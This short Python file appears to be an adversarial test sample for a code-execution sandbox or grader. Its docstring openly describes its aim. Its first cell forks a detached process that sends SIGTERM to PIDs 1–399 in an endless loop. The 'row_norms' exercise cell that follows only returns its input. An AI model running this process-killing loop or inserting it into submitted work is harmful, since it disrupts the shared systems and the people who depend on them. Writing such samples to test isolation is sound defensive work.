"""
tries = "Leaves a process behind that signals everything it sees, again and again."
others = "any"
"""

# %%
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    mine = os.getpid()
    while True:
        for pid in range(1, 400):
            if pid != mine:
                try:
                    os.kill(pid, signal.SIGTERM)
                except OSError:
                    pass
        time.sleep(0.01)


# %% exercise="row_norms"
def row_norms(x):
    return x
